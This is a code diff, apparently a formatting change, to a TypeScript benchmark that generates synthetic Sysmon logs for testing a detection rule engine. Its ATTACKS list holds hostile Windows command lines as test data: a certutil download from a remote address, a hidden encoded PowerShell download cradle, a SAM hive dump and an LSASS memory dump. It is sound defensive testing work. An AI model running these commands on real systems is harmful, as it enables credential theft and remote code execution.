@@ -20,20 +20,36 @@ const repo = resolve(here, '..', '..');
 
 const BENIGN_PROCS = [
   ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\System32\\services.exe'],
-  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'],
+  [
+    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
+    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
+    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
+  ],
   ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', 'C:\\Windows\\System32\\cmd.exe'],
   ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle', 'C:\\Windows\\explorer.exe'],
   ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}', 'C:\\Windows\\System32\\svchost.exe'],
   ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'C:\\Windows\\System32\\svchost.exe'],
   ['C:\\Program Files\\Git\\cmd\\git.exe', 'git status --porcelain', 'C:\\Program Files\\Microsoft VS Code\\Code.exe'],
-  ['C:\\Windows\\System32\\SearchProtocolHost.exe', '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe5_', 'C:\\Windows\\System32\\SearchIndexer.exe'],
+  [
+    'C:\\Windows\\System32\\SearchProtocolHost.exe',
+    '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe5_',
+    'C:\\Windows\\System32\\SearchIndexer.exe',
+  ],
 ];
 /** Processes that talk to the internet in the benign background. */
-const NET_PROCS = ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\System32\\svchost.exe', 'C:\\Program Files\\Git\\mingw64\\bin\\git-remote-https.exe'];
+const NET_PROCS = [
+  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
+  'C:\\Windows\\System32\\svchost.exe',
+  'C:\\Program Files\\Git\\mingw64\\bin\\git-remote-https.exe',
+];
 const ATTACKS = [
   ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all', 'c:\\windows\\system32\\inetsrv\\w3wp.exe'],
   ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 'c:\\windows\\system32\\inetsrv\\w3wp.exe'],
+  [
+    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
+    'c:\\windows\\system32\\inetsrv\\w3wp.exe',
+  ],
   ['C:\\Windows\\System32\\inetsrv\\appcmd.exe', 'appcmd.exe install module /name:CacheHelper /image:C:\\Windows\\Temp\\helper.dll', 'C:\\Windows\\System32\\cmd.exe'],
   ['C:\\Windows\\System32\\reg.exe', 'reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save', 'C:\\Windows\\System32\\cmd.exe'],
   ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full', 'C:\\Windows\\System32\\cmd.exe'],
@@ -78,18 +94,105 @@ export async function generate(path: string, count: number, seed = 1505): Promis
     if (r < 0.0003) {
       attacks++;
       const [img, cmd, parent] = pick(ATTACKS);
-      line = sysmonRecord(i, 1, time, { RuleName: '-', UtcTime: time, ProcessGuid: guid, ProcessId: 4000 + (i % 3000), Image: img, CommandLine: cmd, CurrentDirectory: 'C:\\Windows\\system32\\', User: 'IIS APPPOOL\\DefaultAppPool', IntegrityLevel: 'High', ParentImage: parent, ParentCommandLine: parent, ParentProcessId: 4388 });
+      line = sysmonRecord(i, 1, time, {
+        RuleName: '-',
+        UtcTime: time,
+        ProcessGuid: guid,
+        ProcessId: 4000 + (i % 3000),
+        Image: img,
+        CommandLine: cmd,
+        CurrentDirectory: 'C:\\Windows\\system32\\',
+        User: 'IIS APPPOOL\\DefaultAppPool',
+        IntegrityLevel: 'High',
+        ParentImage: parent,
+        ParentCommandLine: parent,
+        ParentProcessId: 4388,
+      });
     } else if (r < 0.4) {
       const [img, cmd, parent] = pick(BENIGN_PROCS);
-      line = sysmonRecord(i, 1, time, { RuleName: '-', UtcTime: time, ProcessGuid: guid, ProcessId: 4000 + (i % 3000), Image: img, FileVersion: '10.0.19041.1', Description: 'Windows component', Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', OriginalFileName: img.split('\\').pop(), CommandLine: cmd, CurrentDirectory: 'C:\\Windows\\system32\\', User: 'CORP\\alice', LogonId: '0x3e7', IntegrityLevel: 'Medium', Hashes: 'SHA256=6A3F1C2E5C1F2C1A0B1D6E0F0C1B2A39F8E7D6C5B4A3928170605040302010F', ParentImage: parent, ParentCommandLine: parent, ParentProcessId: 640 });
+      line = sysmonRecord(i, 1, time, {
+        RuleName: '-',
+        UtcTime: time,
+        ProcessGuid: guid,
+        ProcessId: 4000 + (i % 3000),
+        Image: img,
+        FileVersion: '10.0.19041.1',
+        Description: 'Windows component',
+        Product: 'Microsoft® Windows® Operating System',
+        Company: 'Microsoft Corporation',
+        OriginalFileName: img!.split('\\').pop()!,
+        CommandLine: cmd,
+        CurrentDirectory: 'C:\\Windows\\system32\\',
+        User: 'CORP\\alice',
+        LogonId: '0x3e7',
+        IntegrityLevel: 'Medium',
+        Hashes: 'SHA256=6A3F1C2E5C1F2C1A0B1D6E0F0C1B2A39F8E7D6C5B4A3928170605040302010F',
+        ParentImage: parent,
+        ParentCommandLine: parent,
+        ParentProcessId: 640,
+      });
     } else if (r < 0.6) {
-      line = sysmonRecord(i, 11, time, { RuleName: '-', UtcTime: time, ProcessGuid: guid, ProcessId: 5120, Image: pick(BENIGN_PROCS)[0], TargetFilename: `C:\\Users\\alice\\AppData\\Local\\Temp\\tmp${(i * 7919) % 100000}.tmp`, CreationUtcTime: time, User: 'CORP\\alice' });
+      line = sysmonRecord(i, 11, time, {
+        RuleName: '-',
+        UtcTime: time,
+        ProcessGuid: guid,
+        ProcessId: 5120,
+        Image: pick(BENIGN_PROCS)[0],
+        TargetFilename: `C:\\Users\\alice\\AppData\\Local\\Temp\\tmp${(i * 7919) % 100000}.tmp`,
+        CreationUtcTime: time,
+        User: 'CORP\\alice',
+      });
     } else if (r < 0.8) {
-      line = sysmonRecord(i, 3, time, { RuleName: '-', UtcTime: time, ProcessGuid: guid, ProcessId: 5120, Image: pick(NET_PROCS), User: 'CORP\\alice', Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: `10.0.${i % 255}.${(i * 3) % 255}`, SourceHostname: 'ws.corp.example', SourcePort: 49152 + (i % 10000), DestinationIsIpv6: 'false', DestinationIp: `93.184.${i % 255}.${(i * 5) % 255}`, DestinationHostname: 'example.com', DestinationPort: 443, DestinationPortName: 'https' });
+      line = sysmonRecord(i, 3, time, {
+        RuleName: '-',
+        UtcTime: time,
+        ProcessGuid: guid,
+        ProcessId: 5120,
+        Image: pick(NET_PROCS),
+        User: 'CORP\\alice',
+        Protocol: 'tcp',
+        Initiated: 'true',
+        SourceIsIpv6: 'false',
+        SourceIp: `10.0.${i % 255}.${(i * 3) % 255}`,
+        SourceHostname: 'ws.corp.example',
+        SourcePort: 49152 + (i % 10000),
+        DestinationIsIpv6: 'false',
+        DestinationIp: `93.184.${i % 255}.${(i * 5) % 255}`,
+        DestinationHostname: 'example.com',
+        DestinationPort: 443,
+        DestinationPortName: 'https',
+      });
     } else if (r < 0.95) {
-      line = sysmonRecord(i, 13, time, { RuleName: '-', EventType: 'SetValue', UtcTime: time, ProcessGuid: guid, ProcessId: 5120, Image: pick(BENIGN_PROCS)[0], TargetObject: `HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\${i % 97}`, Details: `DWORD (0x0000000${i % 9})`, User: 'CORP\\alice' });
+      line = sysmonRecord(i, 13, time, {
+        RuleName: '-',
+        EventType: 'SetValue',
+        UtcTime: time,
+        ProcessGuid: guid,
+        ProcessId: 5120,
+        Image: pick(BENIGN_PROCS)[0],
+        TargetObject: `HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\${i % 97}`,
+        Details: `DWORD (0x0000000${i % 9})`,
+        User: 'CORP\\alice',
+      });
     } else {
-      line = sysmonRecord(i, 7, time, { RuleName: '-', UtcTime: time, ProcessGuid: guid, ProcessId: 5120, Image: pick(BENIGN_PROCS)[0], ImageLoaded: 'C:\\Windows\\System32\\kernelbase.dll', FileVersion: '10.0.19041.1', Description: 'Windows NT BASE API Client DLL', Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', OriginalFileName: 'Kernelbase.dll', Hashes: 'SHA256=1B48A4F8D20026E6C56E3AB4CC4788FA6425C8A75F8D91C2869FA533DE6B209E', Signed: 'true', Signature: 'Microsoft Windows', SignatureStatus: 'Valid', User: 'CORP\\alice' });
+      line = sysmonRecord(i, 7, time, {
+        RuleName: '-',
+        UtcTime: time,
+        ProcessGuid: guid,
+        ProcessId: 5120,
+        Image: pick(BENIGN_PROCS)[0],
+        ImageLoaded: 'C:\\Windows\\System32\\kernelbase.dll',
+        FileVersion: '10.0.19041.1',
+        Description: 'Windows NT BASE API Client DLL',
+        Product: 'Microsoft® Windows® Operating System',
+        Company: 'Microsoft Corporation',
+        OriginalFileName: 'Kernelbase.dll',
+        Hashes: 'SHA256=1B48A4F8D20026E6C56E3AB4CC4788FA6425C8A75F8D91C2869FA533DE6B209E',
+        Signed: 'true',
+        Signature: 'Microsoft Windows',
+        SignatureStatus: 'Valid',
+        User: 'CORP\\alice',
+      });
     }
     buf.push(line);
     if (buf.length >= 5000) {
@@ -163,7 +266,9 @@ export async function run(): Promise<void> {
   const mb = statSync(file).size / 1e6;
   const fl = await floor(file);
   const floorRate = fl.events / (fl.ms / 1000);
-  process.stdout.write(`floor (read + JSON.parse, 1 thread): ${fl.events.toLocaleString('en-US')} events in ${(fl.ms / 1000).toFixed(2)} s = ${Math.round(floorRate).toLocaleString('en-US')} events/s (${(mb / (fl.ms / 1000)).toFixed(1)} MB/s)\n`);
+  process.stdout.write(
+    `floor (read + JSON.parse, 1 thread): ${fl.events.toLocaleString('en-US')} events in ${(fl.ms / 1000).toFixed(2)} s = ${Math.round(floorRate).toLocaleString('en-US')} events/s (${(mb / (fl.ms / 1000)).toFixed(1)} MB/s)\n`,
+  );
   for (const threads of [1, 2]) {
     const r = spawnSync(process.execPath, [fileURLToPath(import.meta.url), '--child', file, rules, String(threads)], { encoding: 'utf8', maxBuffer: 1 << 26 });
     if (r.status !== 0) {
